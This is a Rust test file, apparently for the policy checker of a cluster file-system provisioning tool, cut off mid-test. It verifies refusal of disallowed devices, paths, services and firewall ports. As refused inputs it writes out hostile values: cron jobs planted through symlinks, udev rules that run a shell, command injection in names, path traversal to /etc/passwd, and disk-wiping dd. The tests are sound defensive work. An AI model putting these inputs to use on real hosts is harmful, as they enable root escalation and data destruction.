    assert!(err.fix.contains("/dev/sd?"), "{err}");

    // Arrays made by the unit from allowed members are allowed for the steps after.
    let unit = vec![
        Step::Raid0(Raid0 {
            device: "/dev/md0".into(),
            members: vec!["/dev/disk/azure/scsi1/lun0".into(), "/dev/disk/azure/scsi1/lun1".into()],
            chunk_kib: None,
            wipe: vec![],
            conf: None,
        }),
        mkfs("/dev/md0"),
    ];
    assert_eq!(site.check_unit_on(&unit, &host_root), Ok(()));
    let refused = site.check_unit_on(&unit[1..], &host_root).unwrap_err();
    assert_eq!((refused.index, refused.error.rule), (0, "device-not-allowed"));
    assert!(
        refused
            .to_string()
            .starts_with("step 1 (xfs on /dev/md0) of the unit: refused by policy rule `device-not-allowed`"),
        "{refused}"
    );
}

#[test]
fn site_values_are_checked() {
    let errors = Policy::new(Site {
        kinds: Some(vec!["shell".into()]),
        devices: Some(vec!["/tmp/*".into()]),
        data_roots: Some(vec!["/etc".into(), "data".into()]),
        repositories: Some(vec!["https://mirror.site".into(), "mirror.site/x/".into()]),
        services: vec!["a b".into()],
        refuse_unsigned: false,
        mpi_ssh: false,
        faults: false,
    })
    .unwrap_err();
    let keys: Vec<String> = errors.iter().map(|e| format!("{}[{}]", e.key, e.index)).collect();
    assert_eq!(
        keys,
        [
            "kinds[0]",
            "devices[0]",
            "data_roots[0]",
            "data_roots[1]",
            "repositories[0]",
            "repositories[1]",
            "services[0]"
        ]
    );
}

#[test]
fn symbolic_links_on_the_way_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let root = Root::at(dir.path());
    std::fs::create_dir_all(dir.path().join("data/real")).unwrap();
    std::fs::create_dir_all(dir.path().join("etc/cron.d")).unwrap();
    std::os::unix::fs::symlink("/etc/cron.d", dir.path().join("data/link")).unwrap();
    let policy = Policy::default();
    let write = file("/data/link/job", "* * * * * root sh\n", 0o644);
    assert_eq!(policy.check_step(&write), Ok(()), "the path itself is a data path");
    let err = policy.check_step_on(&write, &root, &[]).unwrap_err();
    assert_eq!(err.rule, "symlink");
    assert!(err.problem.contains("/data/link is a symbolic link (to /etc/cron.d)"), "{err}");
    assert_eq!(policy.check_step_on(&file("/data/real/new/x", "", 0o644), &root, &[]), Ok(()));
    // A file where a directory should be is not a link; the step reports it itself.
    std::fs::write(dir.path().join("data/real/plain"), "").unwrap();
    assert_eq!(policy.check_step_on(&file("/data/real/plain/x", "", 0o644), &root, &[]), Ok(()));
    // The backstop checks actions too.
    let action = Action::Write { path: "/data/link/job".into(), contents: String::new(), mode: 0o644 };
    assert_eq!(policy.check_action_on("file", &action, &root).unwrap_err().rule, "symlink");
}

/// Issue 24, item 3: a file step never replaces another user's file, never writes into their
/// directory, and never writes a file directly under /.
#[test]
fn files_are_written_only_where_the_agents_user_owns_the_place() {
    use std::os::unix::fs::chown;
    let dir = tempfile::tempdir().unwrap();
    let root = Root::at(dir.path());
    let policy = Policy::default();
    assert_eq!(rule(file("/notes", "x\n", 0o644)), "file-place");
    assert_eq!(rule(file("/srv/notes", "x\n", 0o644)), "ok");
    // Someone else's directory, with their file in it.
    let home = dir.path().join("home/alice");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join("notes"), "mine\n").unwrap();
    chown(&home, Some(1000), Some(1000)).expect("tests run as root, as CI does");
    chown(home.join("notes"), Some(1000), Some(1000)).unwrap();
    for path in ["/home/alice/notes", "/home/alice/new"] {
        let err = policy.check_step_on(&file(path, "root's\n", 0o644), &root, &[]).unwrap_err();
        assert_eq!(err.rule, "file-owner", "{path}: {err}");
        assert!(err.problem.contains("belongs to uid 1000"), "{err}");
        let action = Action::Write { path: path.into(), contents: String::new(), mode: 0o644 };
        assert_eq!(policy.check_action_on("file", &action, &root).unwrap_err().rule, "file-owner");
    }
    // A file of someone else's in a directory of the agent's.
    std::fs::create_dir_all(dir.path().join("srv/target")).unwrap();
    std::fs::write(dir.path().join("srv/target/format.conf"), "").unwrap();
    chown(dir.path().join("srv/target/format.conf"), Some(1000), None).unwrap();
    let err = policy.check_step_on(&file("/srv/target/format.conf", "", 0o644), &root, &[]).unwrap_err();
    assert_eq!(err.rule, "file-owner");
    // The agent's own place: allowed, existing file or not.
    assert_eq!(policy.check_step_on(&file("/srv/target/new.conf", "", 0o644), &root, &[]), Ok(()));
    assert_eq!(policy.check_step_on(&file("/srv/fresh/dir/x", "", 0o644), &root, &[]), Ok(()));
}

/// Issue 24, item 4: benchmark directories are data paths under an existing top-level
/// directory, with no link on the way; a site's data roots hold them too.
#[test]
fn benchmark_directories_are_data_paths_under_an_existing_top_level_directory() {
    let dir = tempfile::tempdir().unwrap();
    let root = Root::at(dir.path());
    std::fs::create_dir_all(dir.path().join("mnt/lustre")).unwrap();
    std::fs::create_dir_all(dir.path().join("etc")).unwrap();
    std::os::unix::fs::symlink("/etc", dir.path().join("mnt/link")).unwrap();
    let policy = Policy::default();
    let rule_of = |p: &Policy, d: &str| p.check_bench_dir(d, &root).map_err(|e| e.rule);
    assert_eq!(rule_of(&policy, "/mnt/lustre/pvfs-bench/run1"), Ok(()));
    assert_eq!(rule_of(&policy, "/mnt/new/pvfs-bench/run1"), Ok(()), "made under /mnt");
    for (d, want) in [
        ("/etc/pvfs-bench/x", "system-tree"),
        ("/root/pvfs-bench/x", "system-tree"),
        ("/pvfs-bench/x", "bench-dir"),
        ("/mnt", "bench-dir"),
        ("/mnt/link/x", "symlink"),
        ("/mnt/lustre/../../etc", "path-canonical"),
        ("mnt/lustre", "path-canonical"),
        ("/mnt/.hidden/x", "path-hidden"),
    ] {
        assert_eq!(rule_of(&policy, d), Err(want), "{d}");
    }
    let site = Policy::new(Site { data_roots: Some(vec!["/scratch".into()]), ..Site::default() }).unwrap();
    assert_eq!(rule_of(&site, "/mnt/lustre/pvfs-bench/run1"), Err("data-root"));
}

#[test]
fn actions_stay_in_their_step_kinds_places() {
    let policy = Policy::default();
    let run = |program: &str, args: &[&str]| Action::Run(Command::new(program).args(args.iter().copied()));
    let check = |kind: &str, action: Action| policy.check_action(kind, &action).map_err(|e| e.rule);
    assert_eq!(check("mkfs", run("mkfs.xfs", &["/dev/md0"])), Ok(()));
    assert_eq!(check("mkfs", run("sh", &["-c", "id"])), Err("program"));
    assert_eq!(check("mount", run("mkfs.xfs", &["/dev/md0"])), Err("program"));
    assert_eq!(check("directory", run("mount", &[])), Err("program"));
    assert_eq!(check("gate", run("lctl", &["ping"])), Err("program"));
    assert_eq!(check("service", run("systemctl", &["start", "glusterd"])), Ok(()));
    assert_eq!(check("service", run("systemctl", &["start", "debug-shell"])), Err("service-unit"));
    assert_eq!(check("service", run("systemctl", &["mask", "glusterd"])), Err("program"));
    assert_eq!(check("packages", run("apt-get", &["install", "-y", "--", "fio"])), Ok(()));
    assert_eq!(check("packages", run("apt-get", &["remove", "fio"])), Err("program"));
    assert_eq!(check("mkfs", run("mkfs.xfs", &["-L", "a\nb"])), Err("name"));
    let write = |path: &str| Action::Write { path: path.into(), contents: String::new(), mode: 0o644 };
    assert_eq!(check("mount", write("/etc/fstab")), Ok(()));
    assert_eq!(check("mount", write("/etc/passwd")), Err("action-kind"));
    assert_eq!(check("directory", write("/data/x")), Err("action-kind"));
    assert_eq!(check("packages", write("/etc/yum.repos.d/lustre.repo")), Ok(()));
    assert_eq!(check("packages", write("/etc/cron.d/x")), Err("action-kind"));
    assert_eq!(check("beegfs-setup", write("/etc/beegfs/beegfs-meta.conf")), Ok(()));
    assert_eq!(check("file", write("/etc/cron.d/x")), Err("file-place"));
    assert_eq!(check("mount", Action::Mkdir { path: "/mnt/x".into(), mode: 0o755 }), Ok(()));
    assert_eq!(check("mount", Action::Mkdir { path: "/etc/x".into(), mode: 0o755 }), Err("system-tree"));
    assert_eq!(
        check(
            "raid0",
            Action::PersistMdadm { device: "/dev/md0".into(), conf: "/etc/mdadm/mdadm.conf".into() }
        ),
        Ok(())
    );
    assert_eq!(
        check("raid0", Action::PersistMdadm { device: "/dev/md0".into(), conf: "/etc/x".into() }),
        Err("file-place")
    );
    let attr = |path: &str| Action::Attribute { path: path.into(), value: "128".into() };
    assert_eq!(check("block-queue", attr("/sys/block/md0/queue/nr_requests")), Ok(()));
    assert_eq!(check("block-queue", attr("/sys/kernel/uevent_helper")), Err("action-kind"));
    assert_eq!(check("mount", attr("/sys/block/md0/queue/nr_requests")), Err("action-kind"));
}

/// A configuration change after the service step that restarts for it would leave the
/// daemon on old settings: such a unit is refused before anything runs.
#[test]
fn configuration_changes_come_before_their_service() {
    let conf = "/etc/beegfs/beegfs-meta.conf";
    let keys = Step::ConfigKeys(ConfigKeys {
        path: conf.into(),
        keys: vec![("tuneNumWorkers".into(), "64".into())],
    });
    let service = Step::Service(Service {
        unit: "beegfs-meta".into(),
        enabled: true,
        running: true,
        configs: vec![conf.into()],
    });
    let policy = Policy::default();
    assert!(policy.check_unit(&[keys.clone(), service.clone()]).is_ok());
    let refused = policy.check_unit(&[service, keys]).unwrap_err();
    assert_eq!((refused.index, refused.error.rule), (1, "restart-order"));
    let run = |args: &[&str]| Action::Run(Command::new("systemctl").args(args.iter().copied()));
    assert_eq!(policy.check_action("service", &run(&["restart", "beegfs-meta"])), Ok(()));
    assert_eq!(policy.check_action("service", &run(&["restart", "sshd"])).unwrap_err().rule, "service-unit");
}

/// The rule is one pass over the unit (issue 24: a scan of the earlier steps for every step
/// made 80,000 steps take 39 s): in a long unit the refusal still comes at the first change
/// after a service that reads the file, naming the first such service.
#[test]
fn the_restart_order_of_a_long_unit_is_found_in_one_pass() {
    let conf = "/etc/beegfs/beegfs-meta.conf";
    let service = |unit: &str| {
        Step::Service(Service { unit: unit.into(), enabled: true, running: true, configs: vec![conf.into()] })
    };
    let keys = Step::ConfigKeys(ConfigKeys {
        path: conf.into(),
        keys: vec![("tuneNumWorkers".into(), "64".into())],
    });
    let mut steps: Vec<Step> = (0..20_000)
        .map(|i| Step::Directory(Directory { path: format!("/srv/pvfs-long/d{i}"), mode: 0o755 }))
        .collect();
    steps.push(keys.clone());
    steps.push(service("beegfs-meta"));
    steps.push(service("beegfs-storage"));
    let policy = Policy::default();
    assert!(policy.check_unit(&steps).is_ok());
    steps.push(keys);
    let refused = policy.check_unit(&steps).unwrap_err();
    assert_eq!((refused.index, refused.error.rule), (20_003, "restart-order"));
    assert!(
        refused.error.to_string().contains("after the step that restarts beegfs-meta for it"),
        "{refused}"
    );
}

/// The one step that writes udev rules writes only its own file, and only identity matches
/// and queue attributes in it: a rule is otherwise a way to RUN a program as root.
#[test]
fn block_queue_rules_hold_only_matches_and_queue_settings() {
    let policy = Policy::default();
    let rule_file = "/etc/udev/rules.d/99-pvfs-queue-md10.rules";
    let check = |path: &str, contents: &str| {
        policy
            .check_action(
                "block-queue",
                &Action::Write { path: path.into(), contents: contents.into(), mode: 0o644 },
            )
            .map_err(|e| e.rule)
    };
    let good = "# Written by pvfs\n\
        ACTION==\"add|change\", SUBSYSTEM==\"block\", KERNEL==\"md10\", ATTR{queue/read_ahead_kb}=\"32768\"\n\
        ACTION==\"add|change\", SUBSYSTEM==\"block\", ENV{DEVTYPE}==\"disk\", SYMLINK==\"disk/azure/scsi1/lun0\", \
        ATTR{queue/scheduler}=\"mq-deadline\", ATTR{queue/nr_requests}=\"2048\", ATTR{queue/read_ahead_kb}=\"32768\"\n";
    assert_eq!(check(rule_file, good), Ok(()));
    for evil in [
        "ACTION==\"add\", KERNEL==\"sd*\", RUN+=\"/bin/sh -c id\"",
        "ACTION==\"add\", KERNEL==\"sdc\", ATTR{queue/read_ahead_kb}=\"1\", PROGRAM=\"/bin/id\"",
        "ACTION==\"add\", IMPORT{program}=\"/bin/id\", ATTR{queue/read_ahead_kb}=\"1\"",
        "ACTION==\"add\", KERNEL==\"sdc\", ATTR{uevent}=\"add\"",
        "ACTION==\"add\", KERNEL==\"sdc\", ATTR{queue/read_ahead_kb}=\"1\\\"\", RUN+=\"/bin/id\"",
        "KERNEL==\"sdc\"",
        "ATTR{queue/read_ahead_kb}=\"1\", KERNEL==\"sdc\", GOTO=\"x\"",
    ] {
        assert_eq!(check(rule_file, evil), Err("udev-rule"), "{evil}");
    }
    assert_eq!(check("/etc/udev/rules.d/10-evil.rules", good), Err("action-kind"));
    assert_eq!(check("/etc/udev/rules.d/99-pvfs-queue-../x.rules", good), Err("action-kind"));
    // File steps still cannot write there at all.
    assert_eq!(rule(file(rule_file, good, 0o644)), "file-place");
}

#[test]
fn globs_match_within_a_path_component() {
    assert!(glob_match("/dev/disk/azure/scsi1/lun*", "/dev/disk/azure/scsi1/lun12"));
    assert!(glob_match("/dev/sd?", "/dev/sdc"));
    assert!(glob_match("/dev/*/lun?", "/dev/x/lun1"));
    assert!(!glob_match("/dev/sd?", "/dev/sdcc"));
    assert!(!glob_match("/dev/*", "/dev/disk/by-id/x"));
    assert!(!glob_match("/dev/disk/azure/scsi1/lun*", "/dev/disk/azure/scsi1/lun1/../../../sda"));
}

#[test]
fn the_policy_describes_itself() {
    let shown = Policy::new(Site {
        devices: Some(vec!["/dev/sd?".into()]),
        refuse_unsigned: true,
        ..Site::default()
    })
    .unwrap()
    .to_string();
    assert!(shown.contains("devices: /dev/sd?"), "{shown}");
    assert!(shown.contains("unsigned repositories: refused"), "{shown}");
    assert!(shown.contains("services: beegfs-client"), "{shown}");
}

#[tokio::test]
async fn run_unit_refuses_the_whole_unit_before_anything_runs() {
    let tmp = tempfile::tempdir().unwrap();
    let host = pvfs_steps::NodeAccess::new(Root::at(tmp.path()), pvfs_host::RecordedRunner::new());
    let steps = vec![dir("/data/ok", 0o755), file("/data/ok/x", "", 0o4755)];
    let mut events = Vec::new();
    let summary =
        pvfs_steps::run_unit(&steps, &host, &Policy::default(), false, false, |e| events.push(e), || true)
            .await;
    assert_eq!((summary.failed, summary.skipped, summary.changed), (1, 1, 0));
    let pvfs_steps::StepEvent::Done { outcome: pvfs_steps::Outcome::Failed(failure), index: 1, .. } =
        &events[1]
    else {
        panic!("{events:?}")
    };
    assert!(failure.message.starts_with("refused by policy rule `file-mode`"), "{}", failure.message);
    assert!(!tmp.path().join("data").exists(), "the allowed first step did not run either");
}

#[tokio::test]
async fn execute_checks_each_action_against_the_policy() {
    // A directory step whose directory exists as a link: refused before it is assessed.
    let tmp = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(tmp.path().join("data")).unwrap();
    std::os::unix::fs::symlink("/etc", tmp.path().join("data/etc")).unwrap();
    let host = pvfs_steps::NodeAccess::new(Root::at(tmp.path()), pvfs_host::RecordedRunner::new());
    let outcome =
        pvfs_steps::execute(&dir("/data/etc/x", 0o755), &host, &Policy::default(), false, |_| {}).await;
    let pvfs_steps::Outcome::Failed(failure) = outcome else { panic!("{outcome:?}") };
    assert!(failure.message.contains("rule `symlink`"), "{}", failure.message);
}

#[test]
fn lustre_tuning_stripes_data_paths_and_sets_only_client_parameters() {
    let stripe =
        |dir: &str, count: i64, size: u64| Step::LustreStripe(LustreStripe { dir: dir.into(), count, size });
    assert_eq!(rule(stripe("/mnt/lustre/bench", -1, 4 << 20)), "ok");
    assert_eq!(rule(stripe("/mnt/lustre/bench", 2000, 64 << 10)), "ok");
    assert_eq!(rule(stripe("/etc", -1, 4 << 20)), "system-tree");
    assert_eq!(rule(stripe("/mnt/lustre/../etc", -1, 4 << 20)), "path-canonical");
    for (count, size) in [(0, 4 << 20), (-2, 4 << 20), (2001, 4 << 20), (-1, 0), (-1, 4096), (-1, 4 << 30)] {
        assert_eq!(rule(stripe("/mnt/lustre/bench", count, size)), "stripe", "{count} {size}");
    }

    let param =
        |name: &str, value: &str| Step::LctlParam(LctlParam { name: name.into(), value: value.into() });
    assert_eq!(rule(param("llite.*.max_read_ahead_mb", "64")), "ok");
    assert_eq!(rule(param("osc.*.max_rpcs_in_flight", "16")), "ok");
    // Instance names carry upper case (`lustre-OST0000-osc-ffff…`): the grammar is lower case,
    // so an instance is picked with a glob, never by its name.
    assert_eq!(rule(param("osc.lustre-OST0000-osc-*.max_rpcs_in_flight", "16")), "lctl-param");
    for name in [
        "",
        "-P",
        "llite.*.max_read_ahead_mb=1",
        "llite.*.Max",
        "llite/*/max_read_ahead_mb",
        "llite.* .x",
        "mdt.*.identity_upcall",
        "llite.*.some_upcall",
        "*.*.max_read_ahead_mb",
        "lnet.debug",
        "debug",
        "llite..x",
    ] {
        assert_eq!(rule(param(name, "64")), "lctl-param", "{name:?}");
    }
    for value in ["", "6 4", "64\n", "a\tb"] {
        assert_eq!(rule(param("llite.*.max_read_ahead_mb", value)), "lctl-param", "{value:?}");
    }

    // Each runs only its own program.
    let policy = Policy::default();
    let run = |kind: &str, program: &str| {
        policy.check_action(kind, &Action::Run(Command::new(program).args(["x"]))).map_err(|e| e.rule)
    };
    assert_eq!(run("lctl-param", "lctl"), Ok(()));
    assert_eq!(run("lctl-param", "lfs"), Err("program"));
    assert_eq!(run("lustre-stripe", "sh"), Err("program"));
    // BeeGFS's setup scripts only where ThinkParQ's packages put them: a bare name would be
    // whatever PATH finds first (and on a real node, nothing).
    assert_eq!(run("beegfs-setup", "/opt/beegfs/sbin/beegfs-setup-storage"), Ok(()));
    assert_eq!(run("beegfs-setup", "beegfs-setup-storage"), Err("program"));
    assert_eq!(run("beegfs-setup", "/usr/local/bin/beegfs-setup-storage"), Err("program"));
}

/// `down`'s steps: the same grammars as the steps they undo, only their own programs and
/// verbs, and the site's device list for what a wipe destroys.
#[test]
fn teardown_steps_undo_only_what_pvfs_makes() {
    use pvfs_steps::{GlusterPeersDetached, GlusterVolumeGone, ServiceStopped, Unmount, WipeTarget};
    let unmount = |target: &str| {
        let Step::Mount(m) = mount("10.0.0.5:/gv0", target, "glusterfs", "defaults") else { unreachable!() };
        Step::Unmount(Unmount(m))
    };
    assert_eq!(rule(unmount("/mnt/gv0")), "ok");
    assert_eq!(rule(unmount("/home")), "ok", "a data path");
    assert_eq!(rule(unmount("/usr")), "system-tree");
    assert_eq!(rule(Step::ServiceStopped(ServiceStopped { unit: "glusterfsd".into() })), "ok");
    assert_eq!(rule(Step::ServiceStopped(ServiceStopped { unit: "sshd".into() })), "service-unit");
    assert_eq!(rule(Step::GlusterVolumeGone(GlusterVolumeGone { name: "gv0;rm".into() })), "name");
    assert_eq!(rule(Step::GlusterPeersDetached(GlusterPeersDetached { peers: vec!["-h".into()] })), "name");
    let wipe = |disks: &[&str], array: Option<&str>, vg: Option<&str>| {
        Step::WipeTarget(WipeTarget {
            disks: disks.iter().map(|d| d.to_string()).collect(),
            array: array.map(Into::into),
            vg: vg.map(Into::into),
        })
    };
    assert_eq!(rule(wipe(&["/dev/sdc", "/dev/sdd"], Some("/dev/md0"), Some("vg_b"))), "ok");
    assert_eq!(rule(wipe(&["/dev/shm/x"], None, None)), "device-path");
    assert_eq!(rule(wipe(&["/dev/sdc"], Some("/dev/sdd"), None)), "device-path");
    assert_eq!(rule(wipe(&["/dev/sdc"], None, Some("snapshot0"))), "name");
    // The site's device list: the disks, as for mkfs (the array over them is theirs).
    let site = Policy::new(Site { devices: Some(vec!["/dev/sd?".into()]), ..Site::default() }).unwrap();
    let root = tempfile::tempdir().unwrap();
    let on = |step: &Step| site.check_step_on(step, &Root::at(root.path()), &[]).map_err(|e| e.rule);
    assert_eq!(on(&wipe(&["/dev/sdc", "/dev/sdd"], Some("/dev/md0"), None)), Ok(()));
    assert_eq!(on(&wipe(&["/dev/nvme0n1"], None, None)), Err("device-not-allowed"));

    let policy = Policy::default();
    let run = |program: &str, args: &[&str]| Action::Run(Command::new(program).args(args.iter().copied()));
    let destroy = |program: &str, args: &[&str]| Action::Destroy {
        command: Command::new(program).args(args.iter().copied()),
        devices: vec![],
    };
    let check = |kind: &str, action: Action| policy.check_action(kind, &action).map_err(|e| e.rule);
    assert_eq!(check("unmount", run("umount", &["--", "/mnt/gv0"])), Ok(()));
    assert_eq!(check("unmount", run("umount", &["-l", "/mnt/gv0"])), Err("program"));
    assert_eq!(check("unmount", run("umount", &["--", "/proc"])), Err("system-tree"));
    // The form without `--` is refused, whatever the target.
    assert_eq!(check("unmount", run("umount", &["/mnt/gv0"])), Err("program"));
    assert_eq!(check("unmount", run("umount", &["-a"])), Err("program"));
    assert_eq!(check("unmount", run("umount", &["--", "-a"])), Err("path-canonical"));
    assert_eq!(
        check("unmount", Action::Write { path: "/etc/fstab".into(), contents: String::new(), mode: 0o644 }),
        Ok(())
    );
    assert_eq!(check("service-stopped", run("systemctl", &["stop", "glusterd"])), Ok(()));
    assert_eq!(check("service-stopped", run("systemctl", &["disable", "lnet"])), Ok(()));
    assert_eq!(check("service-stopped", run("systemctl", &["stop", "sshd"])), Err("service-unit"));
    assert_eq!(check("service-stopped", run("systemctl", &["start", "glusterd"])), Err("program"));
    assert_eq!(
        check("gluster-volume-gone", run("gluster", &["--mode=script", "volume", "delete", "gv0"])),
        Ok(())
    );
    assert_eq!(check("wipe", run("vgchange", &["--activate", "n", "--", "vg_b"])), Ok(()));
    assert_eq!(check("wipe", run("vgchange", &["--activate", "n", "vg_b"])), Err("program"));
    assert_eq!(check("wipe", run("vgchange", &["--activate", "y", "--", "vg_b"])), Err("program"));
    assert_eq!(check("wipe", run("vgchange", &["--activate", "n", "--", "-ffy"])), Err("name"));
    assert_eq!(check("wipe", run("mdadm", &["--stop", "/dev/md0"])), Ok(()));
    assert_eq!(check("wipe", run("mdadm", &["--create", "/dev/md0"])), Err("program"));
    assert_eq!(check("wipe", destroy("wipefs", &["--all", "--", "/dev/sdc"])), Ok(()));
    assert_eq!(check("wipe", destroy("wipefs", &["--all", "/dev/sdc"])), Err("program"));
    assert_eq!(check("wipe", destroy("wipefs", &["--all", "--", "-a"])), Err("device-path"));
    // mdadm takes no `--`: the device grammar is what refuses an option in a device's place.
    assert_eq!(check("wipe", destroy("mdadm", &["--zero-superblock", "--force"])), Err("device-path"));
    assert_eq!(check("wipe", run("mdadm", &["--stop", "--scan"])), Err("device-path"));
    assert_eq!(check("wipe", destroy("mdadm", &["--zero-superblock", "/dev/sdc"])), Ok(()));
    assert_eq!(check("wipe", destroy("dd", &["if=/dev/zero", "of=/dev/sdc"])), Err("program"));
    assert_eq!(check("wipe", destroy("wipefs", &["--all", "--", "/etc/passwd"])), Err("device-path"));
    let zero = |path: &str| Action::Zero {
        device: pvfs_steps::Proven {
            path: path.into(),
            dev: pvfs_host::device::DevNum { major: 8, minor: 32 },
            wipe: true,
            empty: false,
        },
    };
    assert_eq!(check("wipe", zero("/dev/sdc")), Ok(()));
    assert_eq!(check("wipe", zero("/root/x")), Err("device-path"));
    assert_eq!(check("mkfs", zero("/dev/sdc")), Err("action-kind"));
    assert_eq!(check("mkfs", destroy("wipefs", &["--all", "--", "/dev/sdc"])), Err("program"));
}

/// Issue 12's finding 2: every positional word from the cluster file comes after `--` where
/// the tool takes one (the step builders cite each tool's source), and the policy refuses the
/// forms without it; mdadm, which takes no `--`, has every word checked instead.
#[test]
fn positional_words_follow_double_dash_and_the_old_forms_are_refused() {
    let policy = Policy::default();
    let run = |program: &str, args: &[&str]| Action::Run(Command::new(program).args(args.iter().copied()));
    let destroy = |program: &str, args: &[&str]| Action::Destroy {
        command: Command::new(program).args(args.iter().copied()),
        devices: vec![],
    };
    let check = |kind: &str, action: Action| policy.check_action(kind, &action).map_err(|e| e.rule);

    // mkfs.lustre, mkfs.*, pvcreate: `-- DEVICE` last.
    let lustre = ["--fsname=lustre", "--backfstype=ldiskfs", "--ost", "--index=3"];
    let with = |tail: &[&'static str]| lustre.iter().chain(tail).copied().collect::<Vec<&str>>();
    assert_eq!(check("lustre-target", destroy("mkfs.lustre", &with(&["--", "/dev/md0"]))), Ok(()));
    assert_eq!(check("lustre-target", destroy("mkfs.lustre", &with(&["/dev/md0"]))), Err("program"));
    assert_eq!(
        check("lustre-target", destroy("mkfs.lustre", &with(&["--", "--reformat"]))),
        Err("device-path")
    );
    assert_eq!(check("mkfs", destroy("mkfs.xfs", &["-f", "-L", "ost0", "--", "/dev/sdc"])), Ok(()));
    assert_eq!(check("mkfs", destroy("mkfs.xfs", &["-f", "/dev/sdc"])), Err("program"));
    assert_eq!(check("lvm-thin", destroy("pvcreate", &["--", "/dev/sdc"])), Ok(()));
    assert_eq!(check("lvm-thin", destroy("pvcreate", &["/dev/sdc"])), Err("program"));

    // lfs setstripe: `-- DIR`, and DIR a data path.
    let stripe = |tail: &[&str]| {
        let mut args = vec!["setstripe", "-c", "-1", "-S", "4M"];
        args.extend(tail);
        check("lustre-stripe", run("lfs", &args))
    };
    assert_eq!(stripe(&["--", "/mnt/lustre/test1"]), Ok(()));
    assert_eq!(stripe(&["/mnt/lustre/test1"]), Err("program"));
    assert_eq!(stripe(&["--", "/etc"]), Err("system-tree"));
    assert_eq!(check("lustre-stripe", run("lfs", &["migrate", "--", "/mnt/lustre/test1"])), Err("program"));

    // raid0: wipefs with `--`; mdadm with every word known or a device.
    assert_eq!(check("raid0", destroy("wipefs", &["--all", "--", "/dev/sdc"])), Ok(()));
    assert_eq!(check("raid0", destroy("wipefs", &["--all", "/dev/sdc"])), Err("program"));
    let create = ["--create", "/dev/md0", "--run", "--level=0", "--raid-devices=2", "--chunk=512"];
    let with = |tail: &[&'static str]| create.iter().chain(tail).copied().collect::<Vec<&str>>();
    assert_eq!(check("raid0", destroy("mdadm", &with(&["/dev/sdc", "/dev/sdd"]))), Ok(()));
    assert_eq!(check("raid0", run("mdadm", &["--assemble", "/dev/md0", "/dev/sdc", "/dev/sdd"])), Ok(()));
    assert_eq!(check("raid0", destroy("mdadm", &with(&["/dev/sdc", "--force"]))), Err("program"));
    assert_eq!(check("raid0", destroy("mdadm", &with(&["/dev/sdc", "-ffy"]))), Err("program"));
    assert_eq!(check("raid0", destroy("mdadm", &with(&["/dev/sdc", "/etc/passwd"]))), Err("device-path"));
    assert_eq!(check("raid0", destroy("mdadm", &with(&[]))), Err("program"), "no members");
    assert_eq!(check("raid0", destroy("mdadm", &["--create", "--scan", "/dev/sdc"])), Err("device-path"));
    assert_eq!(
        check("raid0", run("mdadm", &["--assemble", "/dev/md0", "--run", "/dev/sdc"])),
        Err("program")
    );
    assert_eq!(check("raid0", run("mdadm", &["--grow", "/dev/md0", "/dev/sdc"])), Err("program"));
}

#[test]
fn reboots_take_a_kernel_release_and_a_site_may_forbid_them() {
    let rule_of = |policy: &Policy, kernel: &str| policy.check_reboot(kernel).err().map_or("ok", |e| e.rule);
    let default = Policy::default();
    assert_eq!(rule_of(&default, "3.10.0-514.el7_lustre.x86_64"), "ok");
    assert_eq!(rule_of(&default, "4.18.0-477.10.1.el8_lustre.x86_64"), "ok");
    for bad in ["", "../../etc/passwd", "-x", "3.10 0", "3.10.0\n", "a/b"] {
        assert_eq!(rule_of(&default, bad), "kernel-release", "{bad:?}");
    }
    // A site that lists its kinds without "reboot" is never rebooted; listing it allows it.
    let kinds = |list: &[&str]| {
        Policy::new(Site { kinds: Some(list.iter().map(|k| (*k).to_owned()).collect()), ..Site::default() })
            .unwrap()
    };
    let err = kinds(&["packages"]).check_reboot("3.10.0-514.el7_lustre.x86_64").unwrap_err();
    assert_eq!(err.rule, "kind-not-allowed");
    assert!(err.fix.contains("\"reboot\""), "{}", err.fix);
    assert_eq!(rule_of(&kinds(&["packages", "reboot"]), "3.10.0-514.el7_lustre.x86_64"), "ok");
}

#[test]
fn a_site_can_name_the_lustre_tuning_kinds() {
    // A site that lists its kinds must be able to allow every step pvfs plans: the Lustre
    // tuning steps' kinds were once missing from the list, so no such site could run them.
    let stripe =
        Step::LustreStripe(LustreStripe { dir: "/mnt/lustre/bench".into(), count: -1, size: 4 << 20 });
    let lctl = Step::LctlParam(LctlParam { name: "llite.*.max_read_ahead_mb".into(), value: "64".into() });
    let site = Policy::new(Site {
        kinds: Some(vec!["lustre-stripe".into(), "lctl-param".into()]),
        ..Site::default()
    })
    .unwrap();
    assert_eq!(rule_with(&site, stripe), "ok");
    assert_eq!(rule_with(&site, lctl), "ok");
}

/// `firewall`: only the ports pvfs's file systems listen on, only `--permanent --add-port` and
/// `--reload`.
#[test]
fn firewall_opens_only_file_system_ports_in_two_forms() {
    use pvfs_steps::{FirewallPorts, PortRange, Protocol};
    let step = |ports: Vec<PortRange>, zone: Option<&str>| {
        Step::Firewall(FirewallPorts { ports, zone: zone.map(str::to_owned) })
    };
    let tcp = |first, last| PortRange::range(first, last, Protocol::Tcp);
    let udp = |first, last| PortRange::range(first, last, Protocol::Udp);
    assert_eq!(rule(step(vec![tcp(988, 988)], None)), "ok");
    assert_eq!(rule(step(vec![tcp(8003, 8008), udp(8003, 8008)], Some("public"))), "ok");
    assert_eq!(rule(step(vec![tcp(24007, 24008), tcp(49152, 49155)], Some("internal"))), "ok");
    for refused in [
        vec![tcp(22, 22)],
        vec![udp(988, 988)],
        vec![tcp(1, 65535)],
        vec![tcp(8003, 8009)],
        vec![tcp(49152, 61000)],
        vec![udp(24007, 24007)],
        vec![],
    ] {
        assert_eq!(rule(step(refused.clone(), None)), "firewall-port", "{refused:?}");
    }
    for zone in ["", "trusted zone", "--panic-on", "../../etc", "a-zone-name-longer-than-17", "pub.lic"] {
        assert_eq!(rule(step(vec![tcp(988, 988)], Some(zone))), "name", "{zone:?}");
    }
    let policy = Policy::default();
    let run = |args: &[&str]| {
        policy
            .check_action("firewall", &Action::Run(Command::new("firewall-cmd").args(args.iter().copied())))
            .map_err(|e| e.rule)
    };
    assert_eq!(run(&["--permanent", "--add-port=988/tcp"]), Ok(()));
    assert_eq!(run(&["--permanent", "--zone=internal", "--add-port=8003-8008/udp"]), Ok(()));
    assert_eq!(run(&["--reload"]), Ok(()));
    assert_eq!(run(&["--permanent", "--add-port=22/tcp"]), Err("firewall-port"));
    for args in [
        &["--add-port=988/tcp"][..],
